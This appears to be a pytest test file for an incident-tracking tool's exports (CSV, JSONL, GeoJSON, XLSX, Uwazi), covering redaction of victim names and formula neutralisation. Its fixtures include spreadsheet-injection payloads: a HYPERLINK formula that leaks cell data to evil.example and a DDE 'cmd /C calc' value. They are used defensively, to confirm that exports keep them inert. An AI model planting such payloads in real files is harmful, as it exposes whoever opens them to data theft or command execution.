"""Exports: what someone who downloads a file relies on.

The CSV parses back to the incidents, spreadsheet formulas are inert, names
are gone when redacted, the GeoJSON puts points where they belong, the
workbook opens, and Uwazi's CSV has the columns its import reads.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import zipfile
from pathlib import Path

import openpyxl
import pytest

from recruitwatch.errors import UsageError
from recruitwatch.publish import acled, exports, uwazi
from recruitwatch.publish.places import centroid
from recruitwatch.publish.rows import DocumentRef, IncidentRow

ROOT = Path(__file__).resolve().parent.parent
HOSTILE_OUTLET = '=HYPERLINK("http://evil.example/?"&A1,"click")'
NAME = "Yusuf Karimov"


def incidents() -> list[IncidentRow]:
    moscow = IncidentRow.from_dict(
        {
            "id": 101,
            "review_state": "verified",
            "date_precision": "month",
            "place_precision": "region",
            "first_seen": "2025-04-10T08:00:00+00:00",
            "updated_at": "2025-05-02T12:00:00+00:00",
            "fields": {
                "victim_nationalities": ["UZ"],
                "victim_status": "migrant_worker",
                "victim_count": 1,
                "victim_names": [NAME],
                "location_country": "RU",
                "location_regions": ["RU-MOW"],
                "perpetrators": ["police"],
                "methods": ["raid_detention", "debt_leverage"],
                "outcomes": ["refused", "released"],
                "date": "2025-04",
                # not a contract field of an incident row: must never be exported
                "evidence": [{"field": "victim_names", "quote": f"{NAME} was detained"}],
            },
            "documents": [
                {
                    "url": "https://news.example/uz/yusuf-karimov-detained",
                    "locator": "https://news.example/uz/yusuf-karimov-detained",
                    "title": f"{NAME} detained in a raid in Moscow",
                    "published": "2025-04-09",
                    "language": "en",
                    "outlet": HOSTILE_OUTLET,
                },
                {
                    "url": "https://second.example/a",
                    "locator": "https://second.example/a",
                    "title": "-1 more raid",
                    "published": None,
                    "language": "ru",
                    "outlet": None,
                },
            ],
        }
    )
    donetsk = IncidentRow(
        id=102,
        fields={
            "victim_nationalities": ["TJ", "KG"],
            "victim_status": "prisoner",
            "victim_count": 3,
            "victim_names": [],
            "location_country": "UA",
            "location_regions": ["UA-14"],
            "perpetrators": ["pmc", "prison_administration"],
            "methods": ["sentence_reduction"],
            "outcomes": ["deployed", "killed"],
            "date": "2024",
        },
        review_state="machine",
        first_seen=dt.datetime(2024, 6, 1, tzinfo=dt.UTC),
        updated_at=dt.datetime(2024, 6, 2, tzinfo=dt.UTC),
        documents=(
            DocumentRef(
                url=None, locator="telegram:channel/55", title="Three prisoners", outlet="Channel"
            ),
        ),
    )
    nowhere = IncidentRow(
        id=103,
        fields={
            "victim_nationalities": ["UZ"],
            "victim_status": "unknown",
            "victim_count": None,
            "victim_names": ["@SUM(1+1)*cmd|' /C calc'!A0"],
            "location_country": "UZ",
            "location_regions": [],
            "perpetrators": [],
            "methods": [],
            "outcomes": ["prosecuted_at_home"],
            "date": None,
        },
    )
    return [moscow, donetsk, nowhere]


def parse_csv(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_the_csv_export_starts_with_a_byte_order_mark_for_excel_and_uwazis_does_not():
    assert exports.export_bytes("csv", incidents(), redact_names=False).startswith(b"\xef\xbb\xbf")
    assert not exports.export_bytes("uwazi", incidents(), redact_names=False).startswith(b"\xef\xbb\xbf")


def test_every_format_is_registered_with_a_media_type_and_yields_bytes():
    assert set(exports.EXPORTERS) == {"csv", "jsonl", "geojson", "xlsx", "uwazi"}
    for fmt, exporter in exports.EXPORTERS.items():
        chunks = list(exporter.function(incidents(), redact_names=False))
        assert chunks and all(isinstance(c, bytes) for c in chunks), fmt
        assert (
            "/" in exporter.media_type
            and exporter.file_extension
            and not exporter.file_extension.startswith(".")
        )
    assert exports.EXPORTERS["geojson"].media_type == "application/geo+json"


def test_an_unknown_format_is_a_usage_error_naming_the_known_ones():
    with pytest.raises(UsageError, match="csv"):
        exports.export("pdf", incidents(), redact_names=False)


def test_csv_rows_parse_back_and_match_the_incidents():
    rows = parse_csv(exports.export_bytes("csv", incidents(), redact_names=False))
    assert [r["incident_id"] for r in rows] == ["101", "102", "103"]
    moscow, donetsk, nowhere = rows
    assert list(moscow)[:4] == ["event_id_cnty", "event_date", "year", "time_precision"]
    assert moscow["event_id_cnty"] == "RUSRW101"
    assert (moscow["event_date"], moscow["year"], moscow["time_precision"]) == (
        "2025-04-01",
        "2025",
        "2",
    )
    assert (moscow["admin1"], moscow["country"], moscow["iso"]) == ("Moscow", "Russia", "643")
    lat, lon = centroid("RU-MOW")
    assert (float(moscow["latitude"]), float(moscow["longitude"])) == (lat, lon)
    assert moscow["geo_precision"] == "2"
    assert moscow["methods"] == "raid_detention; debt_leverage"
    assert moscow["victim_names"] == NAME
    assert moscow["actor1"] == "Police" and moscow["actor2"] == "Civilians (Uzbekistan)"
    assert moscow["source"].endswith("second.example"), "an outlet-less report is cited by its host"
    assert (
        moscow["source_urls"]
        == "https://news.example/uz/yusuf-karimov-detained; https://second.example/a"
    )
    assert moscow["fatalities"] == "0"
    assert moscow["timestamp"] == str(int(dt.datetime(2025, 5, 2, 12, tzinfo=dt.UTC).timestamp()))
    assert "Uzbekistan" in moscow["notes"] and "raid or detention" in moscow["notes"]
    assert (donetsk["event_date"], donetsk["time_precision"], donetsk["fatalities"]) == (
        "2024-01-01",
        "3",
        "3",
    )
    assert donetsk["admin1"] == "Donetsk Oblast" and donetsk["country"] == "Ukraine"
    assert (
        donetsk["actor1"] == "Private military company"
        and donetsk["assoc_actor_1"] == "Prison administration"
    )
    assert (nowhere["event_date"], nowhere["latitude"], nowhere["geo_precision"]) == ("", "", "3")
    assert nowhere["location"] == "Uzbekistan"


def test_notes_never_carry_a_name_even_unredacted():
    rows = parse_csv(exports.export_bytes("csv", incidents(), redact_names=False))
    assert all(NAME not in r["notes"] for r in rows)


@pytest.mark.parametrize("fmt", ["csv", "uwazi"])
def test_no_csv_cell_can_run_as_a_spreadsheet_formula(fmt):
    data = exports.export_bytes(fmt, incidents(), redact_names=False)
    cells = [
        cell for row in csv.reader(io.StringIO(data.decode("utf-8"), newline="")) for cell in row
    ]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert any(c.startswith("'=HYPERLINK") for c in cells), "the hostile outlet is kept, made inert"
    assert any(c.startswith("'@SUM") for c in cells), "a hostile name is kept, made inert"


def test_xlsx_stores_hostile_text_as_text_not_formula():
    book = openpyxl.load_workbook(
        io.BytesIO(exports.export_bytes("xlsx", incidents(), redact_names=False))
    )
    cells = [c for row in book["incidents"].iter_rows() for c in row if isinstance(c.value, str)]
    assert not [c for c in cells if c.data_type == "f"]
    assert any(c.value.startswith("=HYPERLINK") for c in cells), "typed text needs no apostrophe"


def all_text(fmt: str, redact_names: bool) -> str:
    data = exports.export_bytes(fmt, incidents(), redact_names=redact_names)
    if fmt == "xlsx":
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            return "".join(
                archive.read(n).decode("utf-8") for n in archive.namelist() if n.endswith(".xml")
            )
    return data.decode("utf-8")


@pytest.mark.parametrize("fmt", sorted(exports.EXPORTERS))
def test_redacted_exports_contain_no_victim_name(fmt):
    text = all_text(fmt, redact_names=True)
    assert NAME not in text and "@SUM(1+1)" not in text
    assert "victim_names" not in text
    assert "name withheld" in text and "detained in a raid" in text, (
        "a name in a report title is replaced"
    )


@pytest.mark.parametrize("fmt", sorted(exports.EXPORTERS))
def test_full_exports_contain_the_names(fmt):
    text = all_text(fmt, redact_names=False)
    assert NAME in text and "victim_names" in text


def test_jsonl_is_one_contract_shaped_object_per_incident_and_never_evidence():
    lines = (
        exports.export_bytes("jsonl", incidents(), redact_names=False).decode("utf-8").splitlines()
    )
    records = [json.loads(line) for line in lines]
    assert [r["id"] for r in records] == [101, 102, 103]
    first = records[0]
    assert "evidence" not in first and "was detained" not in lines[0]
    assert first["victim_names"] == [NAME] and first["location_regions"] == ["RU-MOW"]
    assert (first["date"], first["date_precision"], first["time_precision"]) == (
        "2025-04",
        "month",
        2,
    )
    assert (first["place_precision"], first["geo_precision"], first["review_state"]) == (
        "region",
        2,
        "verified",
    )
    assert first["documents"][0]["published"] == "2025-04-09"
    assert records[1]["date_precision"] == "year", (
        "precision follows the date's form when not stored"
    )
    assert records[2]["victim_count"] is None and records[2]["date"] is None


def test_geojson_is_a_feature_collection_with_lon_lat_points_in_the_region():
    collection = json.loads(exports.export_bytes("geojson", incidents(), redact_names=True))
    assert collection["type"] == "FeatureCollection"
    features = collection["features"]
    assert [f["id"] for f in features] == [101, 102, 103]
    for feature in features:
        assert feature["type"] == "Feature" and isinstance(feature["properties"], dict)
    placed = [f for f in features if f["geometry"]]
    assert len(placed) == 2
    for feature in placed:
        lon, lat = feature["geometry"]["coordinates"]
        assert feature["geometry"]["type"] == "Point"
        assert 19 <= lon <= 180 and 41 <= lat <= 82, "RFC 7946 order is [longitude, latitude]"
    moscow = placed[0]["geometry"]["coordinates"]
    assert moscow == [centroid("RU-MOW")[1], centroid("RU-MOW")[0]]
    assert 36 < moscow[0] < 39 and 55 < moscow[1] < 57
    assert features[2]["geometry"] is None
    assert "victim_names" not in features[0]["properties"]


def test_xlsx_opens_with_a_bold_frozen_header_and_one_row_per_incident():
    book = openpyxl.load_workbook(
        io.BytesIO(exports.export_bytes("xlsx", incidents(), redact_names=False))
    )
    sheet = book["incidents"]
    rows = list(sheet.iter_rows(values_only=True))
    header = rows[0]
    assert header[:3] == ("event_id_cnty", "event_date", "year")
    assert all(c.font.bold for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert len(rows) == 4
    by_name = [dict(zip(header, r, strict=True)) for r in rows[1:]]
    assert [r["incident_id"] for r in by_name] == [101, 102, 103]
    assert by_name[0]["event_date"] == dt.datetime(2025, 4, 1)  # a real date (time_precision says how much is known)
    assert by_name[0]["date"] == "2025-04" and isinstance(by_name[0]["date"], str)
    assert by_name[0]["victim_names"] == NAME
    assert by_name[1]["fatalities"] == 3


# Characters XML 1.0 forbids (U+FFFE, U+FFFF, C0 controls, a lone surrogate): a workbook cannot hold them.
NOT_XML = "\ufffe\uffff\x00\x01\x0b\x1f\ud800"


def test_xlsx_cells_never_hold_characters_xml_forbids():
    from dataclasses import replace

    moscow = incidents()[0]
    title = f"Raid{NOT_XML} in Moscow\tand\nafter"
    moscow = replace(moscow, documents=(replace(moscow.documents[0], title=title),),
                     fields={**moscow.fields, "victim_names": [f"Yusuf{NOT_XML}"]})
    book = openpyxl.load_workbook(io.BytesIO(exports.export_bytes("xlsx", [moscow], redact_names=False)))
    header, row = book["incidents"].iter_rows(values_only=True)
    values = dict(zip(header, row, strict=True))
    assert values["source_titles"] == "Raid in Moscow\tand\nafter"  # tab and newline are XML
    assert values["victim_names"] == "Yusuf"


def test_uwazi_csv_has_title_and_pipe_separated_values_in_the_template_columns():
    rows = parse_csv(exports.export_bytes("uwazi", incidents(), redact_names=False))
    header = list(rows[0])
    assert header[0] == "title"
    assert set(header) - {"title"} == {p.name for p in uwazi.TEMPLATE}
    moscow, donetsk, nowhere = rows
    assert moscow["title"].startswith("Incident 101")
    assert moscow["methods"] == "raid_detention|debt_leverage"
    assert donetsk["victim_nationalities"] == "TJ|KG"
    assert moscow["map_location"] == "{}|{}".format(*centroid("RU-MOW"))
    assert moscow["incident_date"] == "2025-04-01:2025-04-30"
    assert donetsk["incident_date"] == "2024-01-01:2024-12-31"
    assert nowhere["incident_date"] == "" and nowhere["map_location"] == ""
    label, url = moscow["source_link"].split("|")
    assert url == "https://news.example/uz/yusuf-karimov-detained"
    assert moscow["sources"].count("\n") == 1 and "](https://second.example/a)" in moscow["sources"]
    assert moscow["first_seen"] == "2025-04-10"


def test_row_values_for_redacted_tables_hold_no_names():
    for module in (acled, uwazi):
        assert "victim_names" not in module.values(incidents()[0], redact_names=True)
    assert acled.values(incidents()[0], redact_names=False)["victim_names"] == [NAME]
    assert uwazi.values(incidents()[0], redact_names=False)["victim_names"] == NAME


def test_uwazi_without_names_has_no_names_column():
    rows = parse_csv(exports.export_bytes("uwazi", incidents(), redact_names=True))
    assert "victim_names" not in rows[0] and "title" in rows[0]


def test_the_uwazi_template_is_documented_where_the_ngo_reads_it():
    docs = (ROOT / "docs" / "exports.md").read_text(encoding="utf-8")
    for prop in uwazi.TEMPLATE:
        assert f"`{prop.name}`" in docs, prop.name
        assert prop.name in uwazi.__doc__, prop.name


def test_csv_streams_in_chunks_and_reads_its_input_once():
    many = [
        IncidentRow(id=i, fields={"date": "2025-01-02", "location_regions": ["RU-BA"]})
        for i in range(1, 501)
    ]
    chunks = list(exports.export("csv", iter(many), redact_names=True))
    assert len(chunks) > 1
    rows = parse_csv(b"".join(chunks))
    assert [int(r["incident_id"]) for r in rows] == list(range(1, 501))
    assert rows[0]["admin1"] == "Bashkortostan"


def test_rows_from_plain_dicts_parse_iso_dates():
    row = IncidentRow.from_dict(
        {
            "id": "7",
            "fields": {},
            "first_seen": "2025-01-01T00:00:00+00:00",
            "documents": [{"url": "https://a.example", "published": "2025-01-02"}],
        }
    )
    assert row.id == 7 and row.first_seen == dt.datetime(2025, 1, 1, tzinfo=dt.UTC)
    assert (
        row.documents[0].published == "2025-01-02"
        and row.documents[0].locator == "https://a.example"
    )
    assert row.review_state == "machine" and row.date is None and row.time_precision is None
    naive = IncidentRow.from_dict({"id": 8, "fields": {}, "updated_at": "2025-01-01T00:00:00"})
    assert naive.updated_at == dt.datetime(2025, 1, 1, tzinfo=dt.UTC), "the store writes UTC"


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "uwazi"])
def test_each_incident_is_summarised_once_not_once_per_column(fmt, monkeypatch):
    calls = []

    def counting_notes(row):
        calls.append(row.id)
        return "note"

    monkeypatch.setattr(acled, "notes", counting_notes)
    monkeypatch.setattr(uwazi, "notes", counting_notes)
    exports.export_bytes(fmt, incidents(), redact_names=True)
    assert sorted(calls) == [101, 102, 103]


def test_an_xlsx_download_survives_a_title_xml_cannot_hold(db_url):
    """Once, a U+FFFE in a stored title broke the workbook mid-download and dropped the connection."""
    from dataclasses import replace

    from fastapi.testclient import TestClient

    from recruitwatch.demo import demo_items
    from recruitwatch.ingest import Ingestor
    from recruitwatch.security.accounts import create_user
    from recruitwatch.store.accounts import add_api_token
    from recruitwatch.store.database import transaction
    from recruitwatch.web.app import create_app

    item = next(i for i in demo_items() if i.locator.endswith("en_001_tajik_podolsk_raid_killed"))
    Ingestor(db_url).run([replace(item, title="Raid\ufffe\uffff\x1f in Podolsk")])
    with transaction(db_url) as session:
        token = add_api_token(session, create_user(session, "ana", "analyst", password="correct horse battery").user, "t")
    client = TestClient(create_app(db_url))
    response = client.get("/api/v1/exports/xlsx", headers={"Authorization": f"Bearer {token}"})
    assert response.status_code == 200
    header, *rows = openpyxl.load_workbook(io.BytesIO(response.content))["incidents"].iter_rows(values_only=True)
    titles = [dict(zip(header, row, strict=True))["source_titles"] for row in rows]
    assert rows and all(title == "Raid in Podolsk" for title in titles)


def test_the_workbook_has_real_dates_widths_and_a_header_filter():
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(exports.export_bytes("xlsx", incidents(), redact_names=False)))
    sheet = book["incidents"]
    header = [c.value for c in sheet[1]]
    n = sheet.max_row
    assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, len(header)).column_letter}{n}"
    event = sheet.cell(2, header.index("event_date") + 1)
    assert event.is_date and event.number_format == "yyyy-mm-dd"
    assert sheet.cell(2, header.index("first_seen") + 1).is_date
    assert isinstance(sheet.cell(2, header.index("date") + 1).value, str)  # a month stays a month
    notes = sheet.column_dimensions[sheet.cell(1, header.index("notes") + 1).column_letter].width
    assert notes >= 40 and all(sheet.column_dimensions[c.column_letter].width >= 10 for c in sheet[1])


def test_every_export_column_is_explained_and_the_workbook_carries_the_explanations():
    from openpyxl import load_workbook

    from recruitwatch.publish.acled import column_meanings, columns

    meanings = column_meanings()
    assert all(meanings.get(c) for c in columns(redact_names=False))
    book = load_workbook(io.BytesIO(exports.export_bytes("xlsx", incidents(), redact_names=True)))
    guide = [tuple(r) for r in book["columns"].iter_rows(values_only=True)]
    assert guide[0] == ("column", "what it holds")
    assert [name for name, _ in guide[1:]] == list(columns(redact_names=True))  # no victim_names row when redacted
